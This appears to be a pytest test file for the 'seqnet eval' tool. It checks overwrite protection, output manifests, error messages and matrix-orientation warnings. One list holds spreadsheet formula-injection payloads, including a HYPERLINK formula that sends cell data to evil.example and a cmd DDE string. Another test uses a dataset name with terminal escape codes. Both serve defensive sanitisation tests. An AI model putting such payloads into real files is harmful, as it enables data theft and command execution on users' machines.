"""What ``seqnet eval`` writes (all three routes): the set in ``--out DIR`` replaced whole, a user's files never
replaced without ``--overwrite`` (refused before any work), per-query and ``--json`` files recognised as
seqnet's before they are replaced, names from the data made safe for spreadsheets and terminals, no temporary
folder without ``--out``, errors naming the user's paths. Kill points: tests/core/test_crash_points.py."""

from __future__ import annotations

import csv
import json
import os
import tempfile

import numpy as np
import pytest

import seqnet.eval.evaluate as evaluate_mod
from seqnet.cli import main
from seqnet.data.io import save_dataset
from seqnet.data.synth import make_synthetic

SET = ("results.json", "pr_curve.png", "report.html")


def _one_line(capsys, argv, code, pattern):
    capsys.readouterr()
    assert main(argv) == code
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and pattern in err[0] and "Traceback" not in err[0], err
    return err[0]


@pytest.fixture
def no_work(monkeypatch):
    """Evaluating fails the test: what is refused must be refused before any work."""
    def fail(*a, **k):
        raise AssertionError("the evaluation ran")

    for name in ("evaluate", "evaluate_split"):  # the API's and the one seqnet eval calls
        monkeypatch.setattr(evaluate_mod, name, fail)


@pytest.fixture
def matrix(synth_dataset, tmp_path):
    q, r = synth_dataset.query.descriptors, synth_dataset.reference.descriptors
    path = tmp_path / "d.npy"
    np.save(path, np.sqrt(((q[:, None, :] - r[None]) ** 2).sum(-1)))
    return path


@pytest.fixture
def map_dir(synth_dir, tmp_path):
    assert main(["-q", "index", "build", "--dataset", str(synth_dir), "--shortlist", "delta", "--rerank",
                 "raw+seqmatch", "--seq-len", "4", "--out", str(tmp_path / "map")]) == 0
    return tmp_path / "map"


def _route(name, synth_dir, matrix_path=None, map_path=None):
    base = ["-q", "eval", "--dataset", str(synth_dir)]
    if name == "distances":
        return [*base, "--distances", str(matrix_path), "--method", "single"]
    if name == "index":
        return [*base, "--index", str(map_path), "--method", "delta"]
    return [*base, "--method", "single"]


@pytest.mark.parametrize("name", SET)
def test_a_users_file_in_out_is_refused_before_work_and_overwrite_replaces_it(synth_dir, tmp_path, capsys,
                                                                             monkeypatch, name):
    out = tmp_path / "ev"
    out.mkdir()
    (out / name).write_text("the user's own")
    (out / "mine.txt").write_text("mine")
    argv = ["-q", "eval", "--dataset", str(synth_dir), "--method", "single", "--out", str(out), "--report"]
    with monkeypatch.context() as m:
        for f in ("evaluate", "evaluate_split"):
            m.setattr(evaluate_mod, f, lambda *a, **k: pytest.fail("the evaluation ran"))
        _one_line(capsys, argv, 2, "was not written by seqnet")
    assert (out / name).read_text() == "the user's own"
    assert sorted(p.name for p in out.iterdir()) == sorted([name, "mine.txt"])  # nothing written
    inode = (out / "mine.txt").stat().st_ino
    assert main([*argv, "--overwrite"]) == 0
    assert (out / name).read_bytes() != b"the user's own" and all((out / n).exists() for n in SET)
    assert (out / "mine.txt").read_text() == "mine" and (out / "mine.txt").stat().st_ino == inode
    assert main(argv) == 0  # seqnet's own set: replaced without --overwrite


def test_without_report_a_users_report_stays_and_seqnets_old_report_leaves(synth_dir, tmp_path):
    out = tmp_path / "ev"
    base = ["-q", "eval", "--dataset", str(synth_dir), "--method", "single", "--out", str(out)]
    out.mkdir()
    (out / "report.html").write_text("the user's own")
    assert main(base) == 0  # no --report: the user's report.html is neither refused nor touched
    assert (out / "report.html").read_text() == "the user's own"
    assert main([*base, "--report", "--overwrite"]) == 0
    assert "<!DOCTYPE html>" in (out / "report.html").read_text()
    assert main(base) == 0  # seqnet's report of the earlier set would describe another evaluation: it leaves
    assert not (out / "report.html").exists()
    assert set(json.loads((out / ".seqnet-manifest.json").read_text())["files"]) == {"results.json", "pr_curve.png"}


@pytest.mark.parametrize("route", ["distances", "index"])
def test_every_route_writes_and_guards_the_whole_set(synth_dir, tmp_path, capsys, matrix, map_dir, route):
    out = tmp_path / "ev"
    assert main(["-q", "eval", "--dataset", str(synth_dir), "--method", "single", "--out", str(out), "--report"]) == 0
    argv = [*_route(route, synth_dir, matrix, map_dir), "--out", str(out)]
    assert main(argv) == 0
    assert sorted(p.name for p in out.iterdir()) == [".seqnet-manifest.json", "pr_curve.png", "results.json"]
    assert json.loads((out / "results.json").read_text())["inputs"].get(
        "distances" if route == "distances" else "index")
    (out / "pr_curve.png").write_bytes(b"the user's picture")
    os.remove(out / ".seqnet-manifest.json")  # nothing there is seqnet's any more
    _one_line(capsys, argv, 2, "was not written by seqnet")
    assert (out / "pr_curve.png").read_bytes() == b"the user's picture"
    assert main([*argv, "--overwrite"]) == 0 and (out / "pr_curve.png").read_bytes().startswith(b"\x89PNG")


def test_distances_write_the_per_query_file_and_the_report(synth_dir, synth_dataset, tmp_path, capsys, matrix):
    out = tmp_path / "ev"
    argv = ["eval", "--dataset", str(synth_dir), "--distances", str(matrix), "--method", "single,raw+seqmatch",
            "--per-query", str(tmp_path / "pq.jsonl"), "--report", "--out", str(out)]
    assert main(argv) == 0
    assert f"report: {out / 'report.html'}" in capsys.readouterr().out
    rows = [json.loads(line) for line in (tmp_path / "pq.jsonl").read_text().splitlines()]
    res = json.loads((out / "results.json").read_text())["methods"]
    for name in ("single", "raw+seqmatch"):  # each method's rows are its own queries (single: every frame)
        mine = [r for r in rows if r["method"] == name]
        assert len(mine) == res[name]["queries"] + res[name]["no_positive"] == len(synth_dataset.split("test").query) \
            - res[name]["no_full_window"]
        assert sum(r["has_positive"] for r in mine) == res[name]["queries"]
    assert res["single"]["no_full_window"] == 0 < res["raw+seqmatch"]["no_full_window"]
    text = (out / "report.html").read_text()
    assert "The given distances" in text and "<td>raw+seqmatch</td>" in text


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".txt", ""])
def test_a_per_query_file_seqnet_did_not_write_is_refused(synth_dir, tmp_path, capsys, no_work, suffix):
    pq = tmp_path / f"pq{suffix}"
    if suffix:
        pq.write_text("method,query_frame\nthe user's own\n")
    else:  # VME's own preds/ folder: NNN.txt files, as seqnet writes them, but no seqnet manifest
        pq.mkdir()
        (pq / "000.txt").write_text("Query path:\nq.jpg\n")
        (pq / "999.txt").write_text("the user's own")
    argv = ["-q", "eval", "--dataset", str(synth_dir), "--method", "single", "--per-query", str(pq)]
    _one_line(capsys, argv, 2, "not written by seqnet" if suffix else "file(s) seqnet did not write")
    if suffix:
        assert pq.read_text().endswith("the user's own\n")
    else:
        assert (pq / "999.txt").read_text() == "the user's own"
        assert (pq / "000.txt").read_text() == "Query path:\nq.jpg\n"


@pytest.mark.parametrize("suffix", [".csv", ".jsonl", ".txt"])
def test_seqnets_own_per_query_file_is_replaced_and_overwrite_replaces_any(synth_dir, tmp_path, capsys, suffix):
    pq = tmp_path / f"pq{suffix}"
    argv = ["-q", "eval", "--dataset", str(synth_dir), "--method", "single", "--per-query", str(pq)]
    assert main(argv) == 0
    first = pq.read_text()
    assert main(argv) == 0  # an MSLS file by its first line, '# seqnet ...' (a comment to evaluate.py)
    pq.write_text("the user's own")
    _one_line(capsys, argv, 2, "not written by seqnet")
    assert main([*argv, "--overwrite"]) == 0 and pq.read_text() == first


def test_a_link_as_per_query_file_is_refused(synth_dir, tmp_path, capsys):
    (tmp_path / "target.csv").write_text("method,query_frame,query_name,references,scores,correct,has_positive,"
                                         "confidence\n")
    (tmp_path / "pq.csv").symlink_to(tmp_path / "target.csv")
    _one_line(capsys, ["eval", "--dataset", str(synth_dir), "--method", "single", "--per-query",
                       str(tmp_path / "pq.csv")], 2, "not written by seqnet")


def test_per_query_inside_out_joins_the_set(synth_dir, tmp_path, capsys):
    out = tmp_path / "ev"
    argv = ["-q", "eval", "--dataset", str(synth_dir), "--method", "single", "--out", str(out)]
    assert main([*argv, "--per-query", str(out / "pq.csv"), "--json", str(out / "copy.json")]) == 0
    files = json.loads((out / ".seqnet-manifest.json").read_text())["files"]
    assert set(files) == {"results.json", "pr_curve.png", "pq.csv", "copy.json"}
    assert json.loads((out / "copy.json").read_text()) == json.loads((out / "results.json").read_text())
    assert main([*argv, "--per-query", str(out / "preds")]) == 0  # a predictions folder in the set
    # test = queries 141:197 of the query list; L=5: the split's frame 2 first
    assert "preds/143.txt" in json.loads((out / ".seqnet-manifest.json").read_text())["files"]
    _one_line(capsys, [*argv, "--per-query", str(out / "sub" / "pq.csv")], 2, "not directly in it")
    _one_line(capsys, [*argv, "--json", str(out)], 2, "is the --out folder itself")
    _one_line(capsys, [*argv, "--per-query", str(out / "pr_curve.png")], 2, "must end in")
    _one_line(capsys, [*argv, "--json", str(out / "pr_curve.png")], 2, "writes itself")
    (out / "mine.csv").write_text("the user's own")
    _one_line(capsys, [*argv, "--per-query", str(out / "mine.csv")], 2, "mine.csv was not written by seqnet")
    assert (out / "mine.csv").read_text() == "the user's own"


def test_a_json_file_seqnet_did_not_write_is_refused(synth_dir, tmp_path, capsys, no_work):
    (tmp_path / "r.json").write_text('{"mine": true}')
    _one_line(capsys, ["eval", "--dataset", str(synth_dir), "--method", "single", "--json", str(tmp_path / "r.json")],
              2, "not a results JSON written by seqnet")
    assert (tmp_path / "r.json").read_text() == '{"mine": true}'


def test_one_method_formats_are_refused_before_work(synth_dir, tmp_path, capsys, no_work):
    _one_line(capsys, ["eval", "--dataset", str(synth_dir), "--method", "single,raw+seqmatch", "--per-query",
                       str(tmp_path / "p.txt")], 2, "holds one method, got 2")


@pytest.mark.parametrize("extra, pattern", [
    (["--model", "m.pt"], "--distances evaluates the given matrix; drop --model"),
    (["--backend", "torch"], "drop --backend"),
    (["--index", "map"], "drop --index"),
])
def test_options_a_matrix_cannot_apply_are_refused(synth_dir, matrix, capsys, extra, pattern):
    _one_line(capsys, ["eval", "--dataset", str(synth_dir), "--distances", str(matrix), *extra], 2, pattern)


INJECTION = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2"]


def test_per_query_csv_names_are_never_formulas(tmp_path):
    ds = make_synthetic(places=200, dim=16, seed=1)
    names = list(ds.query.names)
    for i in range(len(names)):
        names[i] = f"{INJECTION[i % len(INJECTION)]}{i}"
    ds.query.names = names
    save_dataset(ds, tmp_path / "ds")
    pq = tmp_path / "pq.csv"
    assert main(["-q", "eval", "--dataset", str(tmp_path / "ds"), "--method", "single", "--per-query", str(pq)]) == 0
    rows = list(csv.DictReader(pq.open(newline="")))
    assert rows and all(r["query_name"].startswith("'") for r in rows)  # a spreadsheet shows it as text
    assert {r["query_name"][1:] for r in rows} <= set(names) and any(r["query_name"].startswith("'-2") for r in rows)


def test_terminal_escapes_in_a_dataset_name_are_shown_escaped(tmp_path, capsys):
    ds = make_synthetic(places=200, dim=16, seed=1)
    ds.name = "evil\x1b[2J\x1b]0;title\x07name"
    save_dataset(ds, tmp_path / "ds")
    assert main(["eval", "--dataset", str(tmp_path / "ds"), "--method", "single"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "evil\\x1b[2J" in out


def test_without_out_no_temporary_folder_is_made(synth_dir, tmp_path, monkeypatch, capsys):
    """Without --out nothing but --json is written: no temporary folder (an unusable TMPDIR does not matter,
    a kill leaves nothing behind), and an error names the user's --json path."""
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "no" / "such" / "tmp"))
    made = []
    real = tempfile.mkdtemp
    monkeypatch.setattr(tempfile, "mkdtemp", lambda *a, **k: made.append(a or k) or real(*a, **k))
    js = tmp_path / "r.json"
    assert main(["-q", "eval", "--dataset", str(synth_dir), "--method", "single", "--json", str(js)]) == 0
    assert json.loads(js.read_text())["methods"]["single"]["queries"] > 0 and made == []
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ds", "r.json"]
    real_replace = os.replace

    def denied(src, dst, *a, **k):
        if str(dst).endswith("r.json"):
            raise PermissionError(13, "Permission denied", str(src))
        return real_replace(src, dst, *a, **k)

    monkeypatch.setattr(os, "replace", denied)
    line = _one_line(capsys, ["eval", "--dataset", str(synth_dir), "--method", "single", "--json", str(js)], 1,
                     "permission denied")
    assert str(js) in line and "seqnet-eval" not in line and ".tmp" not in line


@pytest.mark.parametrize("fail", ["errno", "short write"])
def test_a_failure_inside_the_new_set_names_the_users_path(synth_dir, tmp_path, capsys, monkeypatch, fail):
    """ENOSPC while report.html is written (with an errno, or cut short without one) names DIR/report.html, not
    the temporary folder the set is written in; the old set stays whole."""
    import errno

    import seqnet.report.html as html

    out = tmp_path / "ev"
    argv = ["eval", "--dataset", str(synth_dir), "--method", "single", "--out", str(out), "--report"]
    assert main(["-q", *argv]) == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}

    def full(path, text):
        if fail == "errno":
            raise OSError(errno.ENOSPC, "No space left on device", str(path))
        from seqnet.security.files import atomic_path

        with atomic_path(path):
            raise RuntimeError("file write failed")

    monkeypatch.setattr(html, "write_text_atomic", full)
    line = _one_line(capsys, argv, 1, "report.html")
    assert str(out / "report.html") in line and ".seqnet-" not in line and ".tmp" not in line
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".tmp")]


@pytest.mark.parametrize("given, flag, warned", [("distance", [], None), ("similarity", [], "other sense"),
                                                 ("similarity", ["--similarity"], None),
                                                 ("distance", ["--similarity"], "other sense"),
                                                 ("transposed", [], "transposed"),
                                                 ("transposed", ["--transposed"], None)])
def test_a_matrix_read_as_the_user_did_not_mean_is_named(tmp_path, capsys, given, flag, warned):
    """The matrix's readings are compared on the ground truth; a clearly better one is named with its R@1 and
    the flag that gives it (a similarity matrix without --similarity, a transposed square matrix)."""
    import json

    from seqnet.cli import main
    from seqnet.data.io import save_dataset
    from seqnet.data.traverse import Dataset, Traverse

    rng = np.random.default_rng(3)
    r = rng.standard_normal((100, 16)).astype(np.float32)  # square: the transposed reading exists
    q = (r[rng.permutation(100)] + 0.3 * rng.standard_normal((100, 16))).astype(np.float32)
    frames = np.arange(100.0)[:, None]
    qpos = frames[np.linalg.norm(q[:, None] - r[None], axis=-1).argmin(1)]  # each query at its true place
    ds = save_dataset(Dataset(Traverse(r, frames), Traverse(q, qpos), radius=0.5), tmp_path / "ds")
    dist = np.linalg.norm(q[:, None] - r[None], axis=-1)
    m = {"distance": dist, "similarity": -dist, "transposed": dist.T}[given]
    np.save(tmp_path / "m.npy", m)
    assert main(["eval", "--dataset", str(ds), "--distances", str(tmp_path / "m.npy"), "--method", "single",
                 "--split", "all", "--json", str(tmp_path / "r.json"), *flag]) == 0
    err = capsys.readouterr().err
    check = json.loads((tmp_path / "r.json").read_text())["matrix_check"]
    if warned is None:
        assert "reads much better" not in err and check["best_reading"] == "as given"
        assert json.loads((tmp_path / "r.json").read_text())["methods"]["single"]["recall@1"] > 0.5
    else:
        assert f"(the {warned} reading): single-frame R@1 is" in err and check["best_reading"] == warned
        assert "the matrix reads much better " in err and "so it was most likely written that way (hint: " in err


@pytest.mark.parametrize("transposed, hint", [(False, "pass --transposed"), (True, "drop --transposed")])
def test_a_square_matrix_reading_better_transposed_beyond_chance_is_named(caplog, transposed, hint):
    """Aligned traverses (VPR_Tutorial's S is [N_db, N_q]) read about as well either way: a transposed reading
    is named when the sign test over the queries where the readings disagree says it is better beyond chance
    (VPR_Tutorial's untransposed S: R@1 0.117 against 0.137 on 3218 queries), not on a few queries' noise (a
    correct 50 x 50 matrix read 0.96 as given, 1.00 transposed: 2 queries against 0)."""
    from seqnet.eval.matrix.orientation import SQUARE_Z, _warn_reading, choose_reading, sign_z

    r1 = {"as given": 0.117, "other sense": 0.0, "transposed": 0.137, "transposed, other sense": 0.0}
    with caplog.at_level("WARNING", logger="seqnet"):
        _warn_reading("transposed", r1, False, transposed, SQUARE_Z + 0.5)
    assert "a square matrix" in caplog.text and hint in caplog.text and "0.137" in caplog.text
    caplog.clear()
    given, better = np.ones(50, bool), np.ones(50, bool)
    given[:2] = False
    assert sign_z(better, given) == pytest.approx(2 / np.sqrt(2)) and sign_z(better, given) < SQUARE_Z
    none = np.zeros(50, bool)  # noise: not chosen, so not said (every chosen reading is: _warn_reading)
    assert choose_reading({"as given": given, "transposed": better, "other sense": none,
                           "transposed, other sense": none}) == "as given"
    rng = np.random.default_rng(0)
    a, b = rng.random(500) < 0.5, rng.random(500) < 0.6
    pairs = list(zip(b.tolist(), a.tolist(), strict=True))
    naive = sum(x and not y for x, y in pairs) - sum(y and not x for x, y in pairs)
    assert sign_z(b, a) == pytest.approx(naive / np.sqrt(sum(x != y for x, y in pairs)))
    assert sign_z(a, a) == 0.0


def test_the_readings_are_found_in_bounded_blocks_as_a_naive_loop_finds_them():
    from seqnet.eval.matrix.orientation import _top1

    m = np.random.default_rng(1).random((37, 37))
    keep = np.array([0, 3, 4, 20, 36])
    got = _top1(m, keep, block_bytes=8 * 37 * 2)  # two rows or columns a block
    naive = {"as given": [int(np.argmin(m[i])) for i in keep], "other sense": [int(np.argmax(m[i])) for i in keep],
             "transposed": [int(np.argmin(m[:, i])) for i in keep],
             "transposed, other sense": [int(np.argmax(m[:, i])) for i in keep]}
    assert {k: v.tolist() for k, v in got.items()} == naive
    assert set(_top1(m[:, :30], keep)) == {"as given", "other sense"}
